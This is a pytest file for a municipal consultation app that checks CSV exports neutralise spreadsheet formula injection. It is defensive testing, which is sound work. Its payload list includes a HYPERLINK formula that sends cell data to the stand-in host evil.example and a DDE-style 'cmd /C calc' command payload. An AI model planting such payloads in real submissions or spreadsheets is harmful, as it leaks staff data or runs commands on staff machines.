"""Finding 2: a resident's text must never become a live formula in a staff spreadsheet.

The attack texts go in through the real web form (and, for what a form trims, as an SMS
would store them), come out of `inspraak export` and the staff routes with either
separator, and are opened by LibreOffice Calc splitting on `;` and on `,`: no cell of any
file holds a formula. JSON stays exactly what the resident wrote.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from intake.app import create_app
from intake.consultations import seed_demo
from intake.inbound import Inbound
from intake.migrations import upgrade
from intake.models import Consultation
from intake.receive import receive
from intake.reporting.spreadsheet import BOM, defuse
from intake.runtime import Runtime
from tests.admin.conftest import add_user, post, sign_in
from tests.channels.web.helpers import reference_on, submit
from tests.cli import inspraak
from tests.conftest import make_settings
from tests.support.spreadsheet import Cell, open_csv

# Typed on the web form (which trims the text).
TYPED = [
    "Meer bomen;=1+1;",
    '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    ",=1+1",
    'Bankjes,"=1+1"',
    "Twee regels\n=1+1",
    "Meer bomen,-2+3,",
]
# Stored exactly as sent, the way an SMS keeps them.
SENT = ["\t=1+1", "\r=1+1", "＝1+1", 'x";=1+1;"']
ATTACKS = TYPED + SENT


@dataclass
class Desk:
    """A data dir with the attack texts received, a staff client and an admin client."""

    runtime: Runtime
    moderator: FlaskClient
    admin: FlaskClient
    consultation_id: int
    references: list[str]


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    """Receive every attack text, and sign in a moderator and an admin."""
    folder = tmp_path_factory.mktemp("formulas")
    settings = make_settings(folder / "data", INSPRAAK_WEB_RATE_LIMIT="100")
    runtime = Runtime.start(settings)
    upgrade(runtime.db.engine)
    with runtime.db.session() as session:
        seed_demo(session)
        session.commit()
        demo = session.scalars(select(Consultation.id).where(Consultation.slug == "demo")).one()
    app = create_app(runtime_=runtime)
    app.config["TESTING"] = True
    references = []
    resident = app.test_client()
    for text in TYPED:
        page = submit(resident, text=text, name=text[:100], postcode="9000")
        assert page.status_code == 200, page.get_data(as_text=True)
        references.append(reference_on(page.get_data(as_text=True)))
    with runtime.db.session() as session:
        for number, text in enumerate(SENT):
            receipt = receive(
                session,
                Inbound(
                    channel="sms",
                    language="nl",
                    text=text,
                    consultation_id=demo,
                    channel_message_id=f"SM{number}",
                    author_name=text,
                ),
            )
            references.append(receipt.reference)
        # Values the reach report lists as they are stored: a channel and a language.
        receive(
            session,
            Inbound(
                channel="@SUM(1)",
                language="=1+1",
                text="x",
                consultation_id=demo,
                channel_message_id="odd",
            ),
        )
        session.commit()
    clients = {}
    for role in ("moderator", "admin"):
        add_user(runtime, f"{role}@gemeente.be", role)
        clients[role] = app.test_client()
        assert sign_in(clients[role], f"{role}@gemeente.be").status_code == 302
    yield Desk(runtime, clients["moderator"], clients["admin"], demo, references)
    runtime.db.dispose()


def _exports(desk: Desk, folder: Path) -> list[Path]:
    """Write every CSV the project offers, by the CLI and the staff routes, both separators."""
    data_dir = desk.runtime.settings.data_dir
    folder.mkdir(parents=True, exist_ok=True)
    files = []
    for name, separator in (("semicolon", ";"), ("comma", ",")):
        for personal in (False, True):
            path = folder / f"cli-{name}{'-personal' if personal else ''}.csv"
            extra = ("--with-personal-data",) if personal else ()
            inspraak(
                data_dir,
                "export",
                "demo",
                "--format",
                "csv",
                "--separator",
                separator,
                "-o",
                str(path),
                *extra,
            )
            files.append(path)
        form = {"format": "csv", "separator": separator, "personal": "1"}
        staff = post(desk.admin, f"/admin/consultations/{desk.consultation_id}/export", form)
        assert staff.status_code == 200
        files.append(folder / f"staff-{name}.csv")
        files[-1].write_bytes(staff.get_data())
        reach = desk.moderator.get(f"/admin/reach.csv?separator={separator}")
        assert reach.status_code == 200
        files.append(folder / f"reach-{name}.csv")
        files[-1].write_bytes(reach.get_data())
    # The staff export's default: what the form sends when nobody changes the choice.
    default = post(
        desk.moderator, f"/admin/consultations/{desk.consultation_id}/export", {"format": "csv"}
    )
    files.append(folder / "staff-default.csv")
    files[-1].write_bytes(default.get_data())
    return files


@pytest.fixture(scope="module")
def exported(desk: Desk, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Write every CSV once."""
    return _exports(desk, tmp_path_factory.mktemp("exports"))


@pytest.fixture(scope="module", params=[";", ","], ids=["calc-semicolon", "calc-comma"])
def opened(
    request: pytest.FixtureRequest, exported: list[Path], tmp_path_factory: pytest.TempPathFactory
) -> tuple[str, dict[Path, list[list[Cell]]]]:
    """Open every exported file in Calc, splitting on one separator."""
    separator = str(request.param)
    return separator, open_csv(exported, separator, tmp_path_factory.mktemp("calc"))


def test_no_export_opens_with_a_formula_whichever_separator_calc_uses(
    opened: tuple[str, dict[Path, list[list[Cell]]]],
) -> None:
    separator, files = opened
    assert len(files) == 9
    for path, rows in files.items():
        assert path.read_bytes().startswith(BOM.encode()), f"{path.name}: no BOM for Excel"
        formulas = [c for row in rows for c in row if c.formula is not None]
        assert formulas == [], f"{path.name} split on {separator!r}: {formulas}"
        assert len(rows) > 4, f"{path.name}: Calc read too little"


def _column(rows: list[list[Cell]], name: str) -> list[str]:
    header = [cell.text for cell in rows[0]]
    at = header.index(name)
    return [row[at].text if at < len(row) else "" for row in rows[1:]]


def test_with_the_separator_it_was_written_with_every_text_reads_back_whole(
    opened: tuple[str, dict[Path, list[list[Cell]]]],
) -> None:
    separator, files = opened
    name = {";": "cli-semicolon-personal.csv", ",": "cli-comma-personal.csv"}[separator]
    read = next(rows for path, rows in files.items() if path.name == name)
    texts = _column(read, "text")
    # Only the apostrophes that keep a formula from starting were added.
    for attack in TYPED + ["＝1+1", 'x";=1+1;"']:
        assert defuse(attack) in texts, (attack, texts)
    assert _column(read, "author_name")[0] == defuse(TYPED[0])
    if separator == ";":
        reach = next(rows for path, rows in files.items() if path.name == "reach-semicolon.csv")
        assert ["demo", "channel", "'@SUM(1)", "1"] in [[c.text for c in r] for r in reach]


def test_json_keeps_every_text_exactly_as_the_resident_wrote_it(desk: Desk) -> None:
    data_dir = desk.runtime.settings.data_dir
    cli = json.loads(inspraak(data_dir, "export", "demo", "--format", "json").stdout)
    staff = post(
        desk.moderator, f"/admin/consultations/{desk.consultation_id}/export", {"format": "json"}
    )
    assert json.loads(staff.get_data(as_text=True)) == cli
    by_reference = {record["reference"]: record["text"] for record in cli}
    assert [by_reference[r] for r in desk.references] == ATTACKS


def test_a_separator_spreadsheets_do_not_use_is_refused(desk: Desk) -> None:
    data_dir = desk.runtime.settings.data_dir
    refused = inspraak(
        data_dir, "export", "demo", "--format", "csv", "--separator", "|", check=False
    )
    assert refused.returncode == 2 and "separator" in refused.stderr
    form = {"format": "csv", "separator": "\t"}
    response = post(desk.moderator, f"/admin/consultations/{desk.consultation_id}/export", form)
    assert response.status_code == 400
    assert desk.moderator.get("/admin/reach.csv?separator=|").status_code == 400
